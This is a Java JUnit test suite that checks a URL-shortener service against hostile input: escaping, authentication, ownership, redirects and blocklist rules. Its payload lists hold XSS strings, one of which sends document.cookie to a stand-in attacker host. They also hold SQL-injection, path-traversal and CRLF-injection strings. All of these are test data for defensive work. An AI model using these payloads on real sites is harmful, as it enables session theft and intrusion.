package dev.kurz.http;

import static dev.kurz.support.TestNode.bearer;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.kurz.auth.Role;
import dev.kurz.support.TestNode;
import dev.kurz.support.TestNode.Response;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The security half of the hostile-input suite (the input-validation half is
 * {@code link.BadInputTest}): script payloads wherever user data can reach a page, bad
 * credentials, ownership abuse, password-form abuse, open-redirect attempts, confusables and the
 * blocklist on edits. Every case answers 4xx or a safe page, never 5xx; no HTML answer carries a
 * payload unescaped or lacks the security headers; nothing is stored or changed that shouldn't be;
 * and the node keeps serving.
 */
class HostileSecurityTest {

    private static final String LINKS = "/api/v1/links";

    /** Payloads that would run script or restyle a page if a page echoed them unescaped. */
    static final List<String> XSS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg/onload=alert(1)>",
            "</title><script>alert(1)</script>",
            "</dd></dl><iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<style>*{display:none}</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<!--<script>alert(1)//-->",
            "]]><script>alert(1)</script>",
            "<img src=\"x\" onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<form action=\"https://evil.example/\"><input name=password></form>");

    @TempDir
    static Path dir;

    static TestNode node;
    static String user;
    static String other;
    static String plainCode;
    static String protectedCode;
    static String userCode;
    static String adminCode;

    @BeforeAll
    static void start() throws IOException {
        Path blocklist = dir.resolve("blocklist.txt");
        Files.writeString(blocklist, "evil.example\nphish.test\n");
        node = TestNode.start(dir.resolve("data"), Map.of("KURZ_BLOCKLIST_FILE", blocklist.toString()));
        user = node.key("user", Role.USER);
        other = node.key("other", Role.USER);
        plainCode = node.create("{\"url\": \"https://example.com/plain\", \"title\": \"Plain\"}");
        userCode = create(user, "{\"url\": \"https://example.com/users-own\"}");
        adminCode = create(node.adminKey(), "{\"url\": \"https://example.com/admins-own\"}");
        protectedCode = create(user, "{\"url\": \"https://example.com/protected\", \"password\": \"sesame-1234\"}");
    }

    @AfterAll
    static void stop() {
        node.close();
    }

    private static String create(String key, String body) {
        Response r = node.send("POST", LINKS, "application/json", body, bearer(key));
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        return r.json().path("code").asText();
    }

    private static String json(String s) {
        return JsonNodeFactory.instance.textNode(s).toString();
    }

    // ------------------------------------------------------------- payloads that reach pages

    static Stream<Arguments> payloadsInPages() {
        List<Arguments> rows = new ArrayList<>();
        for (String p : XSS) {
            rows.add(arguments("title on the preview: " + p, p, (Function<TestNode, Response>) n -> {
                String code = n.create("{\"url\": \"https://example.com/t\", \"forceNew\": true, \"title\": " + json(p) + "}");
                return n.get("/" + code + "+");
            }));
            rows.add(arguments("url on the preview: " + p, p, (Function<TestNode, Response>) n -> {
                Response created = n.post(LINKS, "{\"url\": " + json("https://example.com/x?q=" + p) + ", \"forceNew\": true}");
                if (created.status() != 201) {
                    return created; // refused is as safe as escaped
                }
                return n.get("/" + created.json().path("code").asText() + "+");
            }));
            rows.add(arguments("Referer on a 404 page: " + p, p, (Function<TestNode, Response>) n ->
                    n.get("/unknown-code", "Referer", "https://ref.example/" + p)));
            rows.add(arguments("User-Agent on the preview: " + p, p, (Function<TestNode, Response>) n ->
                    n.get("/" + plainCode + "+", "User-Agent", p)));
            rows.add(arguments("Referer and User-Agent on the password form: " + p, p, (Function<TestNode, Response>) n ->
                    n.get("/" + protectedCode, "Referer", p, "User-Agent", p)));
        }
        for (String p : List.of("%3Cscript%3Ealert(1)%3C/script%3E", "a/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
                "%3Csvg%20onload=alert(1)%3E/x", "api/v1/%3Cscript%3E")) {
            rows.add(arguments("path on the router's 404 page: " + p, "<script>", (Function<TestNode, Response>) n ->
                    n.get("/" + p)));
        }
        rows.add(arguments("wrong password with a payload", "<script>", (Function<TestNode, Response>) n ->
                n.send("POST", "/" + protectedCode, "application/x-www-form-urlencoded",
                        "password=%3Cscript%3Ealert(1)%3C%2Fscript%3E")));
        return rows.stream();
    }

    /**
     * The web UI's page is a static file: nothing from the request reaches it, and its scripts
     * may only come from our own origin, as files (no inline script, no eval).
     */
    @Test
    void theUiPageEchoesNothingAndRunsOnlyOurOwnScriptFiles() {
        Response plain = node.get("/");
        Response hostile = node.get("/?q=%3Cscript%3Ealert(1)%3C/script%3E", "User-Agent", "<script>alert(1)</script>",
                "Referer", "https://evil.example/\"><script>alert(1)</script>");
        assertThat(hostile.body()).isEqualTo(plain.body());
        String csp = hostile.header("Content-Security-Policy");
        assertThat(csp).contains("default-src 'none'").contains("script-src 'self'").contains("style-src 'self'")
                .contains("frame-ancestors 'none'").contains("base-uri 'none'").doesNotContain("unsafe");
        assertThat(hostile.header("X-Content-Type-Options")).isEqualTo("nosniff");
        var scripts = java.util.regex.Pattern.compile("<script([^>]*)>(.*?)</script>", java.util.regex.Pattern.DOTALL)
                .matcher(hostile.body());
        int count = 0;
        while (scripts.find()) {
            count++;
            assertThat(scripts.group(1)).contains(" src=\"/static/");
            assertThat(scripts.group(2)).isBlank();
        }
        assertThat(count).isEqualTo(2);
        assertThat(hostile.body()).doesNotContain(" style=").doesNotContain("<style").doesNotContainPattern(" on[a-z]+=");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("payloadsInPages")
    void noPageEchoesAPayloadUnescaped(String name, String payload, Function<TestNode, Response> request) {
        Response r = request.apply(node);
        assertThat(r.status()).as("status of %s", r.body()).isBetween(200, 499);
        if (r.header("Content-Type") != null && r.header("Content-Type").startsWith("text/html")) {
            assertSecurityHeaders(r);
            if (payload.contains("<") || payload.contains("\"") || payload.contains("'")) {
                assertThat(r.body()).doesNotContain(payload);
            }
            // Escaped payloads may show as text; what must never appear is a tag or attribute of theirs.
            // The preview's own QR image is the one <img> allowed: its src holds only a code-shaped code.
            String body = r.body().replaceAll("<img class=\"qr-large\" src=\"/api/v1/links/[A-Za-z0-9_-]{1,64}"
                    + "/qr\\?format=svg&amp;size=192\" width=\"192\" height=\"192\" alt=\"QR code of [^\"<>]*\">", "");
            assertThat(body).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img")
                    .doesNotContainIgnoringCase("<svg").doesNotContainIgnoringCase("<iframe")
                    .doesNotContainIgnoringCase("<style").doesNotContainIgnoringCase("<base ")
                    .doesNotContainIgnoringCase("<meta http-equiv").doesNotContainIgnoringCase("href=\"javascript:")
                    .doesNotContain("action=\"https://evil");
        }
        assertThat(r.header("Set-Cookie")).isNull();
        assertLive();
    }

    // ------------------------------------------------------------- bad credentials

    static Stream<Arguments> badCredentials() {
        String fake = "kurz_1_" + "A".repeat(43);
        return Stream.of(
                "Bearer " + fake,
                "Bearer kurz_999999_" + "B".repeat(43),
                "Bearer kurz_0_" + "A".repeat(43),
                "Bearer kurz_-1_" + "A".repeat(43),
                "Bearer kurz_1_" + "A".repeat(42),
                "Bearer kurz_1_" + "A".repeat(44),
                "Bearer kurz_99999999999999999999_" + "A".repeat(43),
                "Bearer kurz_1_" + "A".repeat(40) + "%2F",
                "Bearer ' OR '1'='1",
                "Bearer kurz_1_x' OR 1=1 --",
                "Bearer",
                "Bearer ",
                "Bearer  ",
                "bearer",
                "Token " + fake,
                "Basic YWRtaW46YWRtaW4=",
                "Digest username=\"admin\"",
                fake,
                "Bearer " + fake + " " + fake,
                "Bearer " + fake + ",Bearer " + fake,
                "Bearer " + "A".repeat(5_000),
                "Bearer \u00e9\u00e9\u00e9",
                "Bearer <script>alert(1)</script>",
                "Bearer null",
                "Bearer undefined",
                "Bearer ..%2F..%2Fetc%2Fpasswd").map(Arguments::of);
    }

    @ParameterizedTest(name = "Authorization: {0}")
    @MethodSource("badCredentials")
    void badCredentialsAre401OnEveryOperation(String authorization) {
        JsonNode before = node.get(LINKS + "/" + plainCode).json();
        long stored = node.storedLinks();
        List<Response> answers = List.of(
                node.send("POST", LINKS, "application/json", "{\"url\": \"https://example.com/bad-cred\"}",
                        "Authorization", authorization),
                node.get(LINKS + "/" + userCode, "Authorization", authorization),
                node.get(LINKS, "Authorization", authorization),
                node.send("PATCH", LINKS + "/" + plainCode, "application/json", "{\"title\": \"pwned\"}",
                        "Authorization", authorization),
                node.send("DELETE", LINKS + "/" + plainCode, null, null, "Authorization", authorization));
        for (Response r : answers) {
            JsonNode p = r.problem(401);
            assertThat(p.path("type").asText()).isEqualTo("urn:kurz:problem:unauthorized");
            assertThat(r.header("WWW-Authenticate")).startsWith("Bearer realm=\"kurz\"");
            assertThat(r.body()).doesNotContain("<script>");
            if (authorization.length() > 12) {
                assertThat(r.body()).as("the credentials are not echoed").doesNotContain(authorization.substring(7));
            }
        }
        assertThat(node.storedLinks()).isEqualTo(stored);
        assertThat(node.get(LINKS + "/" + plainCode).json()).isEqualTo(before);
        assertLive();
    }

    @Test
    void twoAuthorizationHeadersAreRefused() {
        Response r = node.get(LINKS, "Authorization", "Bearer " + user, "Authorization", "Bearer " + node.adminKey());
        r.problem(401);
        assertThat(r.header("WWW-Authenticate")).contains("invalid_request");
    }

    // ------------------------------------------------------------- ownership abuse

    static Stream<Arguments> ownershipAbuse() {
        return Stream.of(
                arguments("user reads the admin's link", (Function<TestNode, Response>) n ->
                        n.get(LINKS + "/" + adminCode, bearer(other)), 403),
                arguments("user reads another user's link", (Function<TestNode, Response>) n ->
                        n.get(LINKS + "/" + userCode, bearer(other)), 403),
                arguments("user edits another user's link", (Function<TestNode, Response>) n ->
                        n.send("PATCH", LINKS + "/" + userCode, "application/json",
                                "{\"url\": \"https://example.com/hijacked\"}", bearer(other)), 403),
                arguments("user deletes another user's link", (Function<TestNode, Response>) n ->
                        n.send("DELETE", LINKS + "/" + userCode, null, null, bearer(other)), 403),
                arguments("user edits an anonymous link", (Function<TestNode, Response>) n ->
                        n.send("PATCH", LINKS + "/" + plainCode, "application/json", "{\"title\": \"x\"}", bearer(other)), 403),
                arguments("user deletes an anonymous link", (Function<TestNode, Response>) n ->
                        n.send("DELETE", LINKS + "/" + plainCode, null, null, bearer(other)), 403),
                arguments("user disables their own link", (Function<TestNode, Response>) n ->
                        n.send("PATCH", LINKS + "/" + userCode, "application/json", "{\"disabled\": true}", bearer(user)), 403),
                arguments("user removes another user's password", (Function<TestNode, Response>) n ->
                        n.send("PATCH", LINKS + "/" + protectedCode, "application/json", "{\"password\": null}",
                                bearer(other)), 403),
                arguments("anonymous reads a password link", (Function<TestNode, Response>) n ->
                        n.get(LINKS + "/" + protectedCode), 401),
                arguments("anonymous reads a user's link", (Function<TestNode, Response>) n ->
                        n.get(LINKS + "/" + userCode), 401),
                arguments("anonymous edits an anonymous link", (Function<TestNode, Response>) n ->
                        n.send("PATCH", LINKS + "/" + plainCode, "application/json", "{\"title\": \"x\"}"), 401),
                arguments("anonymous deletes an anonymous link", (Function<TestNode, Response>) n ->
                        n.send("DELETE", LINKS + "/" + plainCode, null, null), 401),
                arguments("anonymous lists links", (Function<TestNode, Response>) n -> n.get(LINKS), 401),
                arguments("anonymous lists with a crafted cursor", (Function<TestNode, Response>) n ->
                        n.get(LINKS + "?cursor=djE6MTAw"), 401));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("ownershipAbuse")
    void ownershipIsEnforced(String name, Function<TestNode, Response> request, int status) {
        JsonNode userLink = node.get(LINKS + "/" + userCode, bearer(user)).json();
        JsonNode plain = node.get(LINKS + "/" + plainCode).json();
        long stored = node.storedLinks();
        Response r = request.apply(node);
        r.problem(status);
        assertThat(r.body()).doesNotContain("example.com/users-own").doesNotContain("example.com/protected")
                .doesNotContain("example.com/admins-own");
        assertThat(node.storedLinks()).isEqualTo(stored);
        assertThat(node.get(LINKS + "/" + userCode, bearer(user)).json()).isEqualTo(userLink);
        assertThat(node.get(LINKS + "/" + plainCode).json()).isEqualTo(plain);
        assertThat(node.get("/" + protectedCode).header("Location")).isNull();
        assertLive();
    }

    // ------------------------------------------------------------- the password form

    static Stream<Arguments> passwordFormAbuse() {
        String form = "application/x-www-form-urlencoded";
        return Stream.of(
                arguments("password sent as JSON", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, "application/json", "{\"password\": \"sesame-1234\"}"), 415),
                arguments("password sent as text", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, "text/plain", "password=sesame-1234"), 415),
                arguments("no content type", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, null, "password=sesame-1234"), 415),
                arguments("empty form", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, ""), 400),
                arguments("empty password", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password="), 400),
                arguments("password field twice", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password=a&password=sesame-1234"), 400),
                arguments("other field name", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "pass=sesame-1234"), 400),
                arguments("malformed percent escape", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password=%zz%"), 400),
                arguments("password in the query string only", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode + "?password=sesame-1234", form, "x=1"), 400),
                arguments("form over 4 KiB", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password=" + "a".repeat(5_000)), 413),
                arguments("password longer than any link password", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password=" + "a".repeat(300)), 400),
                arguments("wrong password", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password=sesame-12345"), 403),
                arguments("right password, wrong case", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode, form, "password=SESAME-1234"), 403),
                arguments("unknown code", (Function<TestNode, Response>) n ->
                        n.send("POST", "/nosuchcode", form, "password=x"), 404),
                arguments("reserved word", (Function<TestNode, Response>) n ->
                        n.send("POST", "/health", form, "password=x"), 404),
                arguments("preview path", (Function<TestNode, Response>) n ->
                        n.send("POST", "/" + protectedCode + "+", form, "password=sesame-1234"), 404),
                arguments("code with a traversal", (Function<TestNode, Response>) n ->
                        n.send("POST", "/..%2f" + protectedCode, form, "password=sesame-1234"), 404),
                arguments("PUT on a short link", (Function<TestNode, Response>) n ->
                        n.send("PUT", "/" + protectedCode, form, "password=sesame-1234"), 405),
                arguments("DELETE on a short link", (Function<TestNode, Response>) n ->
                        n.send("DELETE", "/" + protectedCode, null, null), 405));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("passwordFormAbuse")
    void thePasswordFormGivesNothingAway(String name, Function<TestNode, Response> request, int status) {
        Response r = request.apply(node);
        assertThat(r.status()).as("status of %s", r.body()).isEqualTo(status);
        assertThat(r.header("Location")).isNull();
        assertThat(r.body()).doesNotContain("example.com/protected");
        if (r.header("Content-Type") != null && r.header("Content-Type").startsWith("text/html")) {
            assertSecurityHeaders(r);
        }
        assertLive();
    }

    // ------------------------------------------------------------- open redirects

    static Stream<String> redirectTricks() {
        return Stream.of("?url=https://evil.example/", "?next=//evil.example", "?redirect=javascript:alert(1)",
                "?to=https%3A%2F%2Fevil.example", "?url=https://evil.example/&url=https://evil.example/2",
                "#https://evil.example", "?%0d%0aLocation:%20https://evil.example", "?Location=https://evil.example",
                "?__proto__[url]=https://evil.example", "?url[]=https://evil.example");
    }

    @ParameterizedTest(name = "/code{0}")
    @MethodSource("redirectTricks")
    void noQueryParameterChangesWhereALinkGoes(String trick) {
        Response r = node.get("/" + plainCode + trick);
        assertThat(r.status()).isEqualTo(302);
        assertThat(r.headers().get("location")).containsExactly("https://example.com/plain");
        Response pw = node.get("/" + protectedCode + trick);
        assertThat(pw.header("Location")).isNull();
        assertLive();
    }

    // ------------------------------------------------------------- confusables and the blocklist

    static Stream<Arguments> blockedTargets() {
        return Stream.of(
                arguments("create to a blocked domain", "POST", "https://evil.example/login"),
                arguments("create to a blocked subdomain", "POST", "https://login.evil.example/"),
                arguments("create to a blocked domain in capitals", "POST", "https://EVIL.EXAMPLE/"),
                arguments("create to a blocked domain with a trailing dot", "POST", "https://evil.example./"),
                arguments("PATCH to a blocked domain", "PATCH", "https://phish.test/"),
                arguments("PATCH to a blocked subdomain", "PATCH", "https://a.b.phish.test/x"),
                arguments("PATCH to a blocked domain with a port", "PATCH", "https://phish.test:8443/"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("blockedTargets")
    void theBlocklistAppliesToCreatesAndEdits(String name, String method, String url) {
        long stored = node.storedLinks();
        JsonNode before = node.get(LINKS + "/" + userCode, bearer(user)).json();
        Response r = method.equals("POST")
                ? node.send("POST", LINKS, "application/json", "{\"url\": " + json(url) + "}", bearer(user))
                : node.send("PATCH", LINKS + "/" + userCode, "application/json", "{\"url\": " + json(url) + "}", bearer(user));
        JsonNode p = r.problem(400);
        assertThat(p.path("errors").get(0).path("message").asText()).contains("blocked");
        assertThat(node.storedLinks()).isEqualTo(stored);
        assertThat(node.get(LINKS + "/" + userCode, bearer(user)).json()).isEqualTo(before);
        assertThat(node.get("/" + userCode).header("Location")).isEqualTo("https://example.com/users-own");
    }

    static Stream<Arguments> confusables() {
        return Stream.of(
                arguments("Cyrillic a in an alias", "{\"url\": \"https://example.com/c\", \"alias\": \"p\u0430ypal\"}", 400),
                arguments("fullwidth letters in an alias", "{\"url\": \"https://example.com/c\", \"alias\": \"\uff41\uff42\uff43\"}", 400),
                arguments("zero-width space in an alias", "{\"url\": \"https://example.com/c\", \"alias\": \"ab\u200bc\"}", 400),
                arguments("right-to-left override in a title", "{\"url\": \"https://example.com/c\", \"title\": \"a\u202egnp.exe\"}", 201),
                arguments("Cyrillic host", "{\"url\": \"https://p\u0430ypal.com/login\"}", 201),
                arguments("fullwidth dot in a host", "{\"url\": \"https://evil\uff0eexample/\"}", 400));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("confusables")
    void confusablesAreRefusedOrShownForWhatTheyAre(String name, String body, int status) {
        Response r = node.post(LINKS, body.replace("}", ", \"forceNew\": true}"));
        assertThat(r.status()).as(r.body()).isEqualTo(status);
        if (status == 201) {
            String code = r.json().path("code").asText();
            String preview = node.get("/" + code + "+").body();
            // A look-alike host is shown as the punycode it really is, never as the look-alike.
            assertThat(r.json().path("url").asText()).doesNotContain("\u0430");
            assertThat(preview).doesNotContain("p\u0430ypal");
            assertThat(node.get("/" + code).header("Location")).matches("[\\x21-\\x7e]+");
        }
        assertLive();
    }

    // ------------------------------------------------------------- helpers

    private static void assertSecurityHeaders(Response r) {
        assertThat(r.header("Content-Security-Policy")).contains("default-src 'none'").contains("frame-ancestors 'none'")
                .contains("form-action 'self'").contains("base-uri 'none'");
        assertThat(r.header("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(r.header("X-Frame-Options")).isEqualTo("DENY");
        assertThat(r.header("Referrer-Policy")).isEqualTo("no-referrer");
    }

    private static void assertLive() {
        assertThat(node.get("/health/live").status()).as("node still live").isEqualTo(200);
    }

    static {
        // Fail loudly if the suite ever shrinks below what the issue asks for with BadInputTest.
        if (XSS.size() < 10) {
            throw new UncheckedIOException(new IOException("too few payloads"));
        }
    }
}
